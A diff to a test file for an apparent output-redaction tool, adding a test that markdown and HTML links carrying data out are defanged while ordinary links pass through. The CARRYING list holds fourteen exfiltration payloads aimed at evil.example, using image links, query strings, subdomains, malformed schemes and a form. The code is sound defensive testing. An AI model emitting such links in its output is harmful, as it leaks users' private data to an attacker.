@@ -11,7 +11,7 @@ import type { Tail } from '../../src/inspect/pieces.ts'
 import { createLook } from '../../src/inspect/redact.ts'
 
 const detector = createDetector({ labels: new Set(OUTPUT_LABELS), personal: PERSONAL_KINDS, keyPrefixes: ['mcp'] })
-const look = createLook(detector, { personal: true, errors: true })
+const look = createLook(detector, { personal: true, errors: true, links: true })
 const ALL = new Set<string>(OUTPUT_LABELS)
 
 const TOKEN = 'ghp_7hRk2mQx9TzB4vLc8WsN3dYf6JgP1aEuK5oC'
@@ -330,6 +330,50 @@ test('log messages of every level and progress say nothing of the machine either
   }
 })
 
+const DATA = Buffer.from('the meeting is on Friday').toString('base64url')
+const SENTENCE = 'project%20bluebird%20launches%20in%20may%202027'
+const CARRYING: readonly string[] = [
+  `![x](https://${DATA}@evil.example/x.png)`,
+  `[x](https://${DATA}@evil.example/x)`,
+  `![x][1]\n\n[1]: https://evil.example/p.png?q=${SENTENCE}`,
+  `![Logo]\n\n[logo]: <https://evil.example/p.png?q=${SENTENCE}>`,
+  `[more](https://evil.example/p?d=${SENTENCE})`,
+  `[more](https://evil.example/p?d=${SENTENCE.replaceAll('%20', '+')})`,
+  '![x](https://evil.example/p.png?d=project bluebird launches in may)',
+  `<img alt="a>b" src=https://evil.example/p?d=${SENTENCE}>`,
+  '![x](https://project-bluebird-launches-in-may.evil.example/p.png)',
+  '![x](https://evil.example/p?a=project&b=bluebird&c=launches&d=in&e=may)',
+  `![x](https:\\\\evil.example/p?d=${DATA})`,
+  `![x](https:/evil.example/p?d=${DATA})`,
+  `![x](ftp://evil.example/${DATA})`,
+  `<form action="https://evil.example/p"><input name=d value="${DATA}"></form>`,
+]
+const HONEST_LINKS: readonly string[] = [
+  '[more](https://www.google.com/search?q=how+to+bake+a+cake+in+ten+minutes)',
+  'https://github.com/o/r/issues/new?title=It%20does%20not%20work%20on%20a%20Mac&body=When%20I%20start%20it%20on%20a%20Mac',
+  '[1]: https://en.wikipedia.org/wiki/The_Art_of_War\n![logo][2]\n[2]: https://img.example.com/logo.png?w=200&h=100&fit=crop&auto=format',
+  '![a](https://img.example.com/how-to-bake-a-cake-in-ten-minutes.png "how to bake a cake")',
+  '![a](https://my-bucket-name-prod-eu-west-1.s3.amazonaws.com/a.png)',
+  '![a](https://img.example.com/a.png?fit=crop&auto=format&fm=jpg&crop=faces)',
+  '<form action="https://example.com/search"><input type=hidden name=csrf value="aZ4kQ9vT1mX7cR2pL8sDaZ4kQ9vT"><input type=submit value="Look for it in the archive"></form>',
+  'Is it a > b? See <a href="https://example.com/a?page=2&sort=name">this</a>, <img alt="x"> and https://example.com/?ref=home',
+  'ftp://ftp.example.com/pub/README and http:/ and C:\\\\dir\\\\file',
+]
+
+test('a link or a picture that carries words out is defanged however it is written, and an honest one is not touched', () => {
+  for (const text of CARRYING) {
+    const said = bodyOf({ content: [{ type: 'text', text }] })
+
+    assert.ok(look.glance(said, Buffer.from(textOf(said))), text)
+    assert.match(textOf(redact(said)), /hxxps:\/\/[^"]*redacted:data-link/, text)
+  }
+  for (const text of HONEST_LINKS) {
+    const said = bodyOf({ content: [{ type: 'text', text }] })
+
+    assert.equal(redact(said), said, text)
+  }
+})
+
 /** Texts made to be slow, each repeated. */
 const HOSTILE = [
   'sk-',
@@ -351,6 +395,11 @@ const HOSTILE = [
   'A1b2C3d4',
   '![](https://',
   '<img src=',
+  '<img alt="<img alt=http://a.bc/',
+  '<form action=http://a.bcd/',
+  '![a][',
+  '\n[1]: http://abc.de/',
+  '](https://a.bc ',
   '![',
   '[',
   'a.',
